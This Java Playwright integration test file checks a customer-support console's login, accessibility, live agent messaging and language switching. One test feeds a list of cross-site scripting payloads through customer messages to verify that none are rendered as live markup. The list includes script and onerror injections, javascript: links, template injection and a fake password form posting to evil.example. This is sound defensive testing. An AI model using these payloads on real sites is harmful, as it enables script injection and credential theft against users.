package io.omnihub.console;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.options.AriaRole;
import io.omnihub.console.Desk.Window;
import io.omnihub.desk.RunningHub;
import io.omnihub.message.Content;
import io.omnihub.message.ConversationId;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// The console in a real browser against the real hub.
final class ConsoleIT {

    private static final Chromium CHROMIUM = new Chromium();
    private static final Window WINDOW = new Window(1440, "en", false);

    private final RunningHub hub = RunningHub.shared();
    private final Shop shop = new Shop(hub);

    @AfterAll
    static void close() {
        CHROMIUM.close();
    }

    @Test
    void aWrongPasswordIsRefusedInWords() {
        try (Desk desk = Desk.open(CHROMIUM.browser, hub, WINDOW)) {
            desk.page.locator("input").first().fill(shop.agent("ada"));
            desk.page.locator("input[type=password]").fill("wrong");
            desk.page.locator("button[type=submit]").click();

            assertThat(desk.page.getByRole(AriaRole.ALERT)).hasText("User or password is not right.");
            assertThat(desk.page).hasURL(hub.address + "/console/login");
        }
    }

    @ParameterizedTest
    @CsvSource({
        "1440, en, false",
        "1440, en, true",
        "1440, zh, false",
        "1440, zh, true",
        "390, en, false",
        "390, zh, true"
    })
    void everyScreenIsAccessibleAndWithoutErrors(int width, String language, boolean dark) {
        Window window = new Window(width, language, dark);
        ConversationId conversation = shop.busyDay();
        try (Desk desk = Desk.open(CHROMIUM.browser, hub, window)) {
            assertThat(desk.page.locator("input").first()).isVisible();
            desk.assertAccessible("login");
            desk.screenshot(window + "-login");

            desk.login(shop.agent("ada"), Shop.PASSWORD);
            desk.page.locator("[role=group] button").nth(2).click();
            assertThat(desk.page.locator("section li").first()).isVisible();
            desk.assertAccessible("list");
            desk.screenshot(window + "-list");

            desk.page.navigate("/console/conversations/" + conversation);
            assertThat(desk.thread()).containsText("qr-7");
            desk.assertAccessible("thread");
            desk.screenshot(window + "-thread");
            desk.thread().evaluate("element => element.scrollTop = 0");
            desk.screenshot(window + "-kinds");

            desk.page.keyboard().press("Escape");
            desk.composer().blur();
            desk.page.keyboard().press("?");
            assertThat(desk.page.getByRole(AriaRole.DIALOG)).isVisible();
            desk.assertAccessible("shortcuts");
            desk.screenshot(window + "-shortcuts");
            desk.assertNoErrors();
        }
    }

    @Test
    void twoAgentsAndACustomerTalkLive() {
        Shop.Customer customer = shop.customer("Han Meimei " + System.nanoTime());
        ConversationId conversation = customer.says("Where is my order?");
        try (Desk ada = Desk.open(CHROMIUM.browser, hub, WINDOW);
                Desk bob = Desk.open(CHROMIUM.browser, hub, WINDOW)) {
            ada.login(shop.agent("ada"), Shop.PASSWORD);
            bob.login(shop.agent("bob"), Shop.PASSWORD);
            ada.button("Unassigned").click();
            ada.row(customer.name).click();
            bob.page.navigate("/console/conversations/" + conversation);
            assertThat(bob.thread()).containsText("Where is my order?");

            customer.says("It should have come on Monday.");
            assertThat(ada.thread()).containsText("It should have come on Monday.");
            assertThat(bob.thread()).containsText("It should have come on Monday.");

            ada.button("Assign to me").click();
            assertThat(bob.page.locator("main header")).containsText("Assigned to ada");

            ada.composer().pressSequentially("I look after it");
            assertThat(bob.page.getByText("is writing a reply")).isVisible();
            ada.page.keyboard().press("Enter");
            assertThat(ada.composer()).hasValue("");
            assertThat(bob.thread()).containsText("I look after it");
            assertThat(ada.thread().locator("[data-state=stored]")).hasCount(1);

            ada.page.keyboard().press("Alt+p");
            ada.composer().fill("Asked the carrier");
            ada.page.keyboard().press("Enter");
            assertThat(bob.thread()).containsText("Asked the carrier");

            bob.button("Resolve").click();
            assertThat(ada.button("Reopen")).isVisible();
            assertThat(ada.thread()).containsText("resolved the session");
            ada.assertNoErrors();
            bob.assertNoErrors();
        }
    }

    @Test
    void theLanguageChangesWithoutAReload() {
        try (Desk desk = Desk.open(CHROMIUM.browser, hub, WINDOW)) {
            desk.login(shop.agent("ada"), Shop.PASSWORD);
            desk.page.evaluate("() => window.same = true");
            desk.page.locator("[aria-haspopup=menu]").first().click();
            desk.page.getByRole(AriaRole.MENUITEMRADIO).getByText("中文").click();

            assertThat(desk.page.locator("section h1")).hasText("会话");
            assertThat(desk.page.locator("html")).hasAttribute("lang", "zh-CN");
            assertThat(desk.page.evaluate("() => window.same")).isEqualTo(true);
        }
    }

    @Test
    void whatStrangersWriteIsShownAndNeverRun() {
        List<String> attacks = List.of(
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "\"><svg onload=alert(1)>",
                "{{constructor.constructor('alert(1)')()}}",
                "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
                "<a href=\"javascript:alert(1)\" style=\"position:fixed;inset:0\" onclick=\"alert(1)\">here</a>",
                "<style>*{display:none}</style><form action=//evil.example><input name=password></form>",
                "<math><mi xlink:href=\"data:text/html,<script>alert(1)</script>\"></mi></math>",
                "javascript:alert(1)");
        Shop.Customer customer = shop.customer("<img src=x onerror=alert(1)>");
        ConversationId conversation = customer.says("first");
        for (String attack : attacks) {
            customer.says(
                    new Content.Text(attack),
                    new Content.RichText(attack),
                    new Content.Card(
                            attack,
                            List.of(new Content.Card.Field(attack, attack)),
                            List.of(new Content.Card.Button(attack, "javascript:alert(1)")),
                            null),
                    new Content.ContactCard(attack, attack, attack),
                    new Content.Unsupported("x", attack));
        }
        try (Desk desk = Desk.open(CHROMIUM.browser, hub, WINDOW)) {
            desk.login(shop.agent("ada"), Shop.PASSWORD);
            desk.page.navigate("/console/conversations/" + conversation);
            assertThat(desk.thread()).containsText("{{constructor.constructor");
            assertThat(desk.page.locator("header h2")).hasText(customer.name);
            assertThat(desk.page.locator(".rich-text")).hasCount(attacks.size());

            assertThat(desk.thread().locator("script, img, svg[onload], iframe, form, style, [onclick]"))
                    .hasCount(0);
            assertThat(desk.thread().locator(".rich-text [style], a[href^='javascript']"))
                    .hasCount(0);
            desk.assertNoErrors();
        }
    }
}
